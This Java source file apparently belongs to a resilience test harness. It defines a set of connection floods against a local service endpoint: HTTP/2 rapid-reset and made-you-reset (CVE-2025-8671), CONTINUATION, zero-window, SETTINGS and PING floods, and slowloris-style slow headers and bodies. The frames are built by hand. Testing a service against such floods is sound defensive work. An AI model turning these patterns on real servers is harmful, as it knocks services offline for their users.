import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.function.Consumer;

/**
 * What a caller without a credential does to the service, over and over.
 *
 * @param connections how many it holds at the same moment
 * @param pace how long each connection waits between two units; zero for as fast as the processor time allows
 * @param opening what each connection begins with
 * @param unit a frame, a request, or a piece of one
 */
record Flood(
        String name, int connections, Duration pace, Consumer<Connection> opening, Consumer<Connection> unit) {

    private static final int BODY = 256 * 1024;
    private static final byte[] ANY_HOST = headers("POST");
    private static final byte[] CONNECT = headers("CONNECT");
    private static final byte[] PING = new byte[8];
    /** SETTINGS_HEADER_TABLE_SIZE, 4096. */
    private static final byte[] SETTING = {0, 1, 0, 0, 16, 0};

    static final List<Flood> ALL = List.of(
            new Flood("nothing", 0, Duration.ZERO, c -> {}, c -> {}),
            http2("streams", c -> request(c, 0)),
            http2("resets", c -> request(c, Connection.END_STREAM).number(Connection.RST_STREAM, c.stream(), 8)),
            http2("made-you-reset", Flood::mistake),
            http2("pathless", c -> c.frame(
                    Connection.HEADERS, Connection.END_HEADERS | Connection.END_STREAM, c.stream(), CONNECT)),
            http2("zero-window", Flood::refuseAllData, c -> request(c, Connection.END_STREAM)),
            http2("continuation", c -> c.frame(Connection.HEADERS, 0, 1, ANY_HOST), Flood::continuation),
            http2("settings", c -> c.frame(Connection.SETTINGS, 0, 0, SETTING)),
            http2("ping", c -> c.frame(Connection.PING, 0, 0, PING)),
            http2("empty-data", c -> request(c, 0), c -> c.frame(Connection.DATA, 0, 1)),
            http2("window-update", c -> request(c, 0), c -> c.number(Connection.WINDOW_UPDATE, 1, 1)),
            http2("priority", c -> c.frame(Connection.PRIORITY, 0, c.stream(), (byte) 0, (byte) 0, (byte) 0, (byte) 0, (byte) 7)),
            new Flood("slow-headers", 300, Duration.ofSeconds(1), c -> c.text(head("")), c -> c.text("X-Slow: 1\r\n")),
            new Flood("slow-bodies", 300, Duration.ofSeconds(1), Flood::announce, c -> c.text(" ".repeat(10))),
            new Flood("bodies", 8, Duration.ZERO, c -> {}, c -> body(c, "")),
            new Flood("upgrade", 8, Duration.ZERO, c -> {}, c -> body(c, "Connection: Upgrade\r\nUpgrade: h2c\r\n")),
            new Flood("idle", 1000, Duration.ofSeconds(1), c -> {}, c -> {}));

    boolean isFast() {
        return pace.isZero();
    }

    private static Flood http2(String name, Consumer<Connection> unit) {
        return http2(name, c -> {}, unit);
    }

    private static Flood http2(String name, Consumer<Connection> further, Consumer<Connection> unit) {
        return new Flood(name, 8, Duration.ZERO, c -> further.accept(greet(c)), unit);
    }

    /**
     * RFC 9113 section 3.4, and all the window that there is: a window is not what these floods are about. Every other
     * connection never acknowledges the service's settings, which may keep it from being held to them.
     */
    private static Connection greet(Connection c) {
        c.text("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
                .frame(Connection.SETTINGS, 0, 0)
                .number(Connection.WINDOW_UPDATE, 0, Integer.MAX_VALUE - 65_535);
        return c.number() % 2 == 0 ? c.frame(Connection.SETTINGS, 1, 0) : c;
    }

    private static Connection request(Connection c, int flags) {
        return c.frame(Connection.HEADERS, Connection.END_HEADERS | flags, c.stream(), ANY_HOST);
    }

    /** SETTINGS_INITIAL_WINDOW_SIZE, 0: no answer's body can be sent. */
    private static void refuseAllData(Connection c) {
        c.frame(Connection.SETTINGS, 0, 0, (byte) 0, (byte) 4, (byte) 0, (byte) 0, (byte) 0, (byte) 0);
    }

    /** What the service has to answer with a reset of the stream (CVE-2025-8671); each connection makes one kind. */
    private static void mistake(Connection c) {
        request(c, 0);
        switch (c.number() % 4) {
            case 0 -> c.number(Connection.WINDOW_UPDATE, c.stream(), 0);
            case 1 -> c.number(Connection.WINDOW_UPDATE, c.stream(), Integer.MAX_VALUE);
            case 2 -> c.frame(Connection.PRIORITY, 0, c.stream(), (byte) 0);
            default -> request(request(c, Connection.END_STREAM), 0);
        }
    }

    /** Half of the connections send nothing in each frame, which no limit of octets counts. */
    private static void continuation(Connection c) {
        byte[] header = {0x00, 0x01, 'x', 0x01, 'y'};
        c.frame(Connection.CONTINUATION, 0, 1, c.number() % 4 < 2 ? new byte[0] : header);
    }

    private static void announce(Connection c) {
        c.text(head("Content-Length: " + BODY + "\r\n\r\n"));
    }

    /** Every other request has a credential that is none. */
    private static void body(Connection c, String headers) {
        String credential = c.units() % 2 == 0 ? "" : "Authorization: Bearer a.b.c\r\n";
        c.text(head(headers + credential + "Content-Length: " + BODY + "\r\n\r\n") + " ".repeat(BODY));
    }

    private static String head(String headers) {
        return "POST /connect/dcr HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" + headers;
    }

    /** RFC 7541: each field as a literal that no table keeps; CONNECT has no scheme and no path. */
    private static byte[] headers(String method) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        literal(block, 2, method);
        if (!method.equals("CONNECT")) {
            literal(block, 6, "http");
            literal(block, 4, "/connect/dcr");
        }
        literal(block, 1, "localhost");
        return block.toByteArray();
    }

    /** RFC 7541 section 6.2.2, the name by its place in the static table. */
    private static void literal(ByteArrayOutputStream block, int name, String value) {
        block.write(name);
        block.write(value.length());
        block.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    }
}
